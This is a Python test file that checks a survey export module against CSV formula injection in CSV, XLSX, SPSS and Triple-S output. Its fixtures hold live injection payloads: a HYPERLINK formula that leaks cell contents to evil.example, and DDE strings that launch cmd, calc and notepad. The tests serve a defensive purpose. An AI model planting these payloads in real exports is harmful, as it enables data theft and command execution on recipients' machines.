"""CSV injection: formula-like answers and company names are never run by a spreadsheet
opening an export; numbers stay numbers; the other formats keep the exact words."""

from __future__ import annotations

import csv
import dataclasses
from datetime import UTC, datetime
from pathlib import Path

import pyreadstat
import pytest
from openpyxl import load_workbook

from cati.exports import RespondentTable, build_respondent_table, write_table
from cati.exports.records import ContactDetails
from cati.spreadsheet_cells import FORMULA_STARTS
from surveys import Answer as ScriptAnswer
from surveys import load_script_text
from tests.cati.exports.factory import SCRIPT_TEXT, pure_results

SCRIPT = load_script_text(SCRIPT_TEXT)
EXPORTED_AT = datetime(2025, 3, 15, 12, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2;"Подробнее")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
SPACED = "  +1+cmd|' /C notepad'!A0"


def _hostile_table() -> RespondentTable:
    results = pure_results(include_contacts=True)
    first, second, *rest = results.interviews
    assert first.contact is not None
    first = dataclasses.replace(
        first,
        contact=dataclasses.replace(first.contact, company=HYPERLINK, name="-Иванов"),
        answers={**first.answers, "comment": ScriptAnswer(DDE).to_json()},
    )
    second = dataclasses.replace(
        second,
        contact=ContactDetails("\tООО «Ромашка»", "Петрова Анна", "", "", ("+79161234567",)),
        answers={
            **second.answers,
            "nps_promoter_why": ScriptAnswer(SPACED).to_json(),
            "comment": ScriptAnswer("-5").to_json(),
        },
    )
    results = dataclasses.replace(results, interviews=(first, second, *rest))
    return build_respondent_table(results, SCRIPT, include_contacts=True, weights=True)


def _runs_as_formula(cell: str) -> bool:
    if cell.startswith(("\t", "\r")):
        return True
    stripped = cell.lstrip()
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    try:
        float(stripped.replace(",", "."))
    except ValueError:
        return True
    return False  # a number


@pytest.mark.parametrize("dialect", ["ru", "intl"])
def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(
    tmp_path: Path, dialect: str
) -> None:
    table = _hostile_table()
    files = write_table(
        table, "csv", tmp_path / "out.csv", exported_at=EXPORTED_AT, csv_dialect=dialect
    )
    delimiter = ";" if dialect == "ru" else ","
    cells: list[str] = []
    for path in files:
        with path.open(encoding="utf-8-sig", newline="") as stream:
            cells += [cell for row in csv.reader(stream, delimiter=delimiter) for cell in row]
    assert not [cell for cell in cells if _runs_as_formula(cell)]
    for hostile in (HYPERLINK, DDE, SPACED, "-Иванов", "\tООО «Ромашка»"):
        assert "'" + hostile in cells  # shown as text, nothing lost
    assert "-5" in cells  # an answer that is a number is data
    assert "+74951234567" in cells  # a phone in E.164 is a number to a spreadsheet, not a formula
    # Negative numbers written by the export itself (the missing-value codes of the labels
    # are positive; the weights and the scale values are numbers) stay numbers.
    with files[0].open(encoding="utf-8-sig", newline="") as stream:
        data = list(csv.DictReader(stream, delimiter=delimiter))
    assert data[0]["nps"] == "3" and data[0]["comment"] == "'" + DDE


def test_xlsx_writes_every_hostile_text_as_a_text_cell(tmp_path: Path) -> None:
    table = _hostile_table()
    (path,) = write_table(table, "xlsx", tmp_path / "out.xlsx", exported_at=EXPORTED_AT)
    workbook = load_workbook(path)
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    # Typed cells need no quote: the exact words are kept.
    for hostile in (HYPERLINK, DDE, SPACED, "-Иванов", "\tООО «Ромашка»"):
        assert hostile in texts


def test_spss_and_triple_s_keep_the_exact_words(tmp_path: Path) -> None:
    table = _hostile_table()
    write_table(table, "sav", tmp_path / "out.sav", exported_at=EXPORTED_AT)
    read, _meta = pyreadstat.read_sav(str(tmp_path / "out.sav"))
    assert read["company"][0] == HYPERLINK and read["comment"][0] == DDE
    files = write_table(table, "sss", tmp_path / "out.sss", exported_at=EXPORTED_AT)
    data = files[1].read_text(encoding="utf-8")
    assert HYPERLINK in data and "'" + HYPERLINK not in data
